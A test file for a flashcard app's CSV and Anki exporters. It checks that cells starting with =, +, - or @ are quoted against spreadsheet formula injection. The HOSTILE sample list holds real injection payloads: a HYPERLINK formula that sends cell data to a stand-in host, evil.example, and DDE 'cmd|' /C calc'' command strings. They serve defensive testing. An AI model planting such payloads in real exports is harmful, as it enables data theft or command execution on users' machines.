import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { rowsToAnki } from "./export-anki";
import { rowsToCsv } from "./export-csv";
import type { ExportRow } from "./export-rows";
import { parseCardsCsv } from "./import-csv";

/** Texts a spreadsheet would run as formulas, and texts that only look close to them. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1, "Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
  '=HYPERLINK("https://evil.example")\nsecond line',
  "'=already quoted once",
  "''@twice",
  "-1",
  "=",
];
const HARMLESS = ["What is ReLU?", "max(0, z)", "'quoted but harmless", "a = b + c", "정답: 784"];

function row(index: number, front: string, back: string): ExportRow {
  return { id: `c-${index}`, kind: "card", itemId: `c-${index}`, itemType: "qa", concept: "sgd", seed: 0, params: {}, front: { ko: front, en: front }, back: { ko: back, en: back }, tags: [] };
}

const rows = [...HOSTILE, ...HARMLESS].map((text, i) => row(i, text, text));

describe("CSV export guards against formulas", () => {
  it("every cell that begins with =, +, - or @ is written with a leading ' (multi-line cells too)", () => {
    const parsed = Papa.parse<string[]>(rowsToCsv(rows).replace(/^\uFEFF/, ""), { skipEmptyLines: true });
    const frontColumn = parsed.data[0]!.indexOf("front_en");
    const fronts = parsed.data.slice(1).map((cells) => cells[frontColumn]!);
    expect(fronts).toHaveLength(rows.length);
    for (const cell of fronts) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(fronts.slice(0, HOSTILE.length).every((cell) => cell.startsWith("'"))).toBe(true);
    // Harmless texts are written as they are.
    expect(fronts.slice(HOSTILE.length)).toEqual(HARMLESS);
  });

  it("export → import gives every text back exactly", () => {
    const imported = parseCardsCsv(rowsToCsv(rows), { concepts: ["sgd"] });
    expect(imported.errors).toEqual([]);
    expect(imported.cards.map((card) => card.prompt.en)).toEqual(rows.map((r) => r.front.en));
    expect(imported.cards.map((card) => card.answer.ko)).toEqual(rows.map((r) => r.back.ko));
  });

  it("a teacher's own sheet with '= cells reads as the text after the quote", () => {
    const imported = parseCardsCsv("front,back\n'=1+1,two\n", { concepts: ["sgd"], defaultConcept: "sgd" });
    expect(imported.errors).toEqual([]);
    expect(imported.cards[0]?.prompt.en).toBe("=1+1");
  });
});

describe("Anki text export guards against formulas too (a spreadsheet opens it as tab-separated text)", () => {
  const ankiRows = rows.map((r) => ({ ...r, tags: r.id === "c-0" ? ["=cmd|' /C calc'!A0"] : ["deepdrill"] }));
  const text = rowsToAnki(ankiRows, { deckName: "DeepDrill::Guarded", language: "en" });
  const fields = text.trimEnd().split("\n").slice(5).map((line) => line.split("\t"));

  it("every field that begins with =, +, - or @ is written with a leading ' (tags too); harmless fields as they are", () => {
    expect(fields).toHaveLength(rows.length);
    for (const field of fields.flat()) expect(field, field).not.toMatch(/^[=+\-@\t\r]/);
    expect(fields.slice(0, HOSTILE.length).every(([front, back]) => front!.startsWith("'") && back!.startsWith("'"))).toBe(true);
    expect(fields[0]![2]).toBe("'=cmd|'_/C_calc'!A0");
    expect(fields.slice(HOSTILE.length).map(([front]) => front)).toEqual(HARMLESS);
  });

  it("export → import gives every text back exactly", () => {
    const imported = parseCardsCsv(text, { concepts: ["sgd"], defaultConcept: "sgd" });
    expect(imported.errors).toEqual([]);
    expect(imported.cards.map((card) => card.prompt.en)).toEqual(rows.map((r) => r.front.en));
    expect(imported.cards.map((card) => card.answer.en)).toEqual(rows.map((r) => r.back.en));
  });
});
